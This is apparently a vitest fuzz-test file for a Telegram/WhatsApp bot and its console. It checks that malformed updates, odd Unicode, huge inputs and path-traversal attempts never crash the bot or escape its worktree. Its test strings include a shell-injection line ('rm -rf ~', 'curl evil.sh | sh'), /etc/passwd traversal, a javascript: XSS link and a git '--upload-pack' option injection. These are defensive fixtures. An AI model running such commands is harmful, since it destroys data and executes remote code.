// Hostile input: seeded random and malformed updates through the Telegram edge (toIncoming, then the
// whole stack on the fake Bot API) and WhatsApp's (normalise over hostile WAMessages), hostile lines
// through the console, and hostile task text against
// the workspace's names. Never a throw, never an unhandled rejection; the owner's next message is answered.

import type { Update } from 'grammy/types';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { pathInside, slugify } from '../src/agents/cli/workspace.js';
import { toIncoming } from '../src/bot/telegram-updates.js';
import { normalise } from '../src/bot/whatsapp-inbound.js';
import { run } from '../src/main.js';
import {
  OWNER,
  ownerChat,
  STRANGER,
  type Stack,
  say,
  sendReview,
  startStack,
} from './fakes/telegram/harness.js';
import { type FakeBotApi, startFakeBotApi } from './fakes/telegram/index.js';
import { Screen } from './helpers/screen.js';
import { tempDir } from './helpers/store.js';
import { seeded } from './helpers/storm.js';

const ODD_TEXTS = [
  '',
  ' ',
  '\u0000\u0001\u0007\u001b[31mred\u001b[0m\r\n\t',
  '\u202Eevil\u202C \u200B\u200D\uFEFF',
  '\uD83D', // a lone surrogate
  'ǅ̴̡̛̖͎̓z̷̡͚̮̈́a̸̢̛͍̤l̵̨̛͔g̵̛̪̈o̵̧̓',
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(500),
  '/',
  '/approve 99999999999999999999',
  '/reject -1',
  '/show NaN',
  '/forget 1e308',
  '/remember \u0000',
  '"; rm -rf ~; echo "$(whoami)" `id` | tee /etc/passwd && curl evil.sh | sh',
  '../../../../etc/passwd',
  '<b>unclosed <i>html</b> &amp &#xD800; <a href="javascript:alert(1)">x</a>',
  '*_`[]()~>#+-=|{}.!\\',
  'x'.repeat(5 * 1024 * 1024),
];

/** A value of a random type, sometimes nested: what a broken or hostile server might put in a field. */
function junk(rand: () => number, depth = 0): unknown {
  const r = rand();
  if (r < 0.12) return null;
  if (r < 0.2) return undefined;
  if (r < 0.32) return Math.floor(rand() * 2 ** 53) * (rand() < 0.5 ? -1 : 1);
  if (r < 0.38) return rand() < 0.5 ? Number.NaN : 1.5;
  if (r < 0.46) return rand() < 0.5;
  if (r < 0.66) return ODD_TEXTS[Math.floor(rand() * (ODD_TEXTS.length - 1))];
  if (r < 0.8 && depth < 3) return [junk(rand, depth + 1), junk(rand, depth + 1)];
  if (depth < 3)
    return { id: junk(rand, depth + 1), type: junk(rand, depth + 1), text: junk(rand, depth + 1) };
  return 'x';
}

/** A plausible update with seeded damage: fields dropped, retyped or swapped for junk, odd kinds. */
function hostileUpdate(rand: () => number, id: number, from = OWNER.id): Record<string, unknown> {
  const message: Record<string, unknown> = {
    message_id: id,
    date: 1_700_000_000,
    chat: { id: from, type: 'private' },
    from: { id: from, is_bot: false, first_name: 'X' },
    text: ODD_TEXTS[Math.floor(rand() * (ODD_TEXTS.length - 1))],
  };
  for (const key of Object.keys(message)) if (rand() < 0.2) message[key] = junk(rand);
  if (rand() < 0.1) (message.chat as Record<string, unknown>) = { id: junk(rand), type: junk(rand) };
  const kinds = [
    () => ({ message }),
    () => ({ edited_message: message }),
    () => ({ channel_post: { ...message, chat: { id: -100123, type: 'channel' } } }),
    () => ({ edited_channel_post: message }),
    () => ({ my_chat_member: { chat: message.chat, from: message.from } }),
    () => ({
      callback_query: {
        id: rand() < 0.8 ? String(id) : junk(rand),
        from: rand() < 0.9 ? { id: from } : junk(rand),
        data: rand() < 0.5 ? `p:${Math.floor(rand() * 1e6)}:${Math.floor(rand() * 9)}` : junk(rand),
        message: rand() < 0.8 ? { message_id: 1, chat: message.chat } : junk(rand),
      },
    }),
    () => ({ inline_query: { id: 'q', from: message.from, query: message.text } }),
    () => ({ message: junk(rand) }),
    () => ({ callback_query: junk(rand) }),
  ];
  const pick = kinds[Math.floor(rand() * kinds.length)] ?? kinds[0]!;
  return pick();
}

describe('Telegram update parsing under fuzz', () => {
  it('reads 5,000 seeded hostile updates without throwing, and only well-formed ones come through', () => {
    const rand = seeded(2026);
    const kinds = new Map<string, number>();
    for (let i = 0; i < 5000; i++) {
      const update = { update_id: i, ...hostileUpdate(rand, i) } as unknown as Update;
      const read = toIncoming(update, '123');
      kinds.set(read.kind, (kinds.get(read.kind) ?? 0) + 1);
      if (read.kind === 'incoming') {
        expect(typeof read.incoming.chatId).toBe('string');
        expect(typeof read.incoming.userId).toBe('string');
        expect(read.incoming.messageId).toMatch(/^123:/);
        if (read.incoming.kind === 'text') expect(typeof read.incoming.text).toBe('string');
      }
    }
    // The fuzz reaches all three outcomes, so it tests something.
    expect([...kinds.keys()].sort()).toEqual(['ignored', 'incoming', 'malformed']);
  });
});

describe('WhatsApp message parsing under fuzz', () => {
  const OWNER_DIGITS = '4915112345678';
  const jids = [
    `${OWNER_DIGITS}@s.whatsapp.net`,
    '4917000000000@s.whatsapp.net',
    '123456789@lid',
    '1203630@g.us',
    'status@broadcast',
    '1203@newsletter',
    '',
    'garbage',
  ];

  it('reads 3,000 seeded hostile WAMessages without throwing; only the owner is read', async () => {
    const rand = seeded(99);
    const pick = <T>(xs: T[]): T => xs[Math.floor(rand() * xs.length)] as T;
    const kinds = new Map<string, number>();
    for (let i = 0; i < 3000; i++) {
      const text = pick(ODD_TEXTS.slice(0, -1));
      const content = pick<unknown>([
        { conversation: text },
        { extendedTextMessage: { text, contextInfo: { stanzaId: junk(rand) } } },
        { imageMessage: { caption: junk(rand) } },
        { audioMessage: { mimetype: junk(rand), seconds: junk(rand) } },
        { reactionMessage: { text: junk(rand), key: { id: junk(rand) } } },
        { ephemeralMessage: { message: { conversation: text } } },
        junk(rand),
        null,
      ]);
      const message = {
        key: {
          // Baileys decodes keys from protobuf: strings or null, never other types; the content is free.
          remoteJid: rand() < 0.9 ? pick(jids) : null,
          id: rand() < 0.9 ? `id${i}` : pick([null, '', undefined]),
          fromMe: rand() < 0.1,
          ...(rand() < 0.2 ? { remoteJidAlt: pick(jids) } : {}),
        },
        message: content,
        messageTimestamp: rand() < 0.8 ? 1_800_000_000 : junk(rand),
        ...(rand() < 0.05 ? { messageStubType: 2 } : {}),
      };
      const read = await normalise(message as never, {
        ownerDigits: OWNER_DIGITS,
        self: { digits: '4930000000' },
        sentByKev: () => false,
        pnForLid: async () => (rand() < 0.5 ? `${OWNER_DIGITS}@s.whatsapp.net` : undefined),
        now: 1_800_000_000_000,
        maxAgeMs: 86_400_000,
      }).catch((error: unknown) => ({ kind: 'threw', why: String(error) }));
      kinds.set(read.kind, (kinds.get(read.kind) ?? 0) + 1);
      expect(read.kind, JSON.stringify(read)).not.toBe('threw');
      const normalised = read as Awaited<ReturnType<typeof normalise>>;
      if (normalised.kind === 'text') expect(typeof normalised.text).toBe('string');
      if (normalised.kind !== 'ignore') expect(normalised.chatJid.endsWith('@g.us')).toBe(false);
    }
    expect(kinds.get('text')).toBeGreaterThan(0);
    expect(kinds.get('ignore')).toBeGreaterThan(0);
  });
});

describe('the whole Telegram stack under hostile updates', () => {
  let fake: FakeBotApi;
  let stack: Stack | undefined;
  const rejections: unknown[] = [];
  const onRejection = (reason: unknown) => rejections.push(reason);

  beforeEach(async () => {
    fake = await startFakeBotApi();
    process.on('unhandledRejection', onRejection);
    process.on('uncaughtException', onRejection);
  });
  afterEach(async () => {
    process.off('unhandledRejection', onRejection);
    process.off('uncaughtException', onRejection);
    await stack?.stop();
    await fake.close();
  });

  it('survives 300 hostile updates from the owner and strangers, then answers the owner', {
    timeout: 60_000,
  }, async () => {
    stack = await startStack({ fake, file: `${tempDir('kev-fuzz-')}/kev.db` });
    await say(fake, '/start');
    const review = sendReview(stack);
    const request = await fake.waitFor(
      () => ownerChat(fake).find((m) => m.buttons.length > 0),
      'the review',
      30_000,
    );
    const rand = seeded(7);
    for (let i = 0; i < 300; i++) {
      const from = rand() < 0.5 ? STRANGER.id : OWNER.id;
      fake.world.queue(hostileUpdate(rand, 10_000 + i, from) as Omit<Update, 'update_id'>);
    }
    // A stranger forging the owner's own review buttons.
    for (const button of request.buttons.flat()) fake.world.userTap(STRANGER, request, button.data);
    fake.world.userText(OWNER, '/help');
    await fake.waitFor(
      () => ownerChat(fake).find((m) => m.text.includes('/approve') && m.text.includes('/remember')),
      'the help',
      30_000,
    );
    expect(rejections).toEqual([]);
    expect(fake.world.messages(STRANGER.id)).toEqual([]);
    expect(stack.store.tasks.get(review.id)?.state).toBe('review');
    expect(request.edits).toBe(0);
    // Nothing odd made a task on its own.
    expect(stack.store.tasks.list({}).length).toBe(1);
  });
});

describe('the console under hostile lines', () => {
  it('answers /help after control characters, odd Unicode and a 5 MB line', { timeout: 60_000 }, async () => {
    const dir = tempDir('kev-fuzz-console-');
    const screen = new Screen();
    const kev = await run({
      env: { KEV_DATA_DIR: dir, KEV_LOG_LEVEL: 'silent', KEV_TIMEZONE: 'UTC', PATH: '' },
      cwd: dir,
      input: screen.input,
      output: screen.output,
      graceMs: 0,
    });
    const lines = ODD_TEXTS.map((t) => t.replace(/[\r\n]/g, ' '));
    screen.input.end(`${[...lines, '99', '0', '-1', '/help'].join('\n')}\n`);
    await kev.done;
    expect(screen.text).toContain('/approve <id>');
    expect(screen.text).toMatch(/That message is .*; I take up to/);
  });
});

describe('hostile task text and paths', () => {
  it('turns any title into a branch slug of [a-z0-9-] that cannot name a path or an option', () => {
    const rand = seeded(11);
    for (const text of [...ODD_TEXTS.slice(0, -1), '--upload-pack=evil', '-rf /', '../..', '.git/hooks']) {
      const slug = slugify(text);
      expect(slug).toMatch(/^[a-z0-9][a-z0-9-]*$/);
      expect(slug.length).toBeLessThanOrEqual(40);
    }
    for (let i = 0; i < 500; i++) {
      const text = Array.from({ length: 30 }, () => String.fromCharCode(Math.floor(rand() * 0xffff))).join(
        '',
      );
      expect(slugify(text)).toMatch(/^[a-z0-9][a-z0-9-]*$|^task$/);
    }
  });

  it('keeps hostile relative and absolute paths outside the worktree out', async () => {
    const wt = tempDir('kev-fuzz-wt-');
    for (const candidate of ['..', '../x', 'a/../../x', '/etc/passwd', 'a/b/../../../etc', './../.']) {
      expect(await pathInside(wt, candidate)).toBe(false);
    }
    expect(await pathInside(wt, 'a/b/../c')).toBe(true);
  });
});
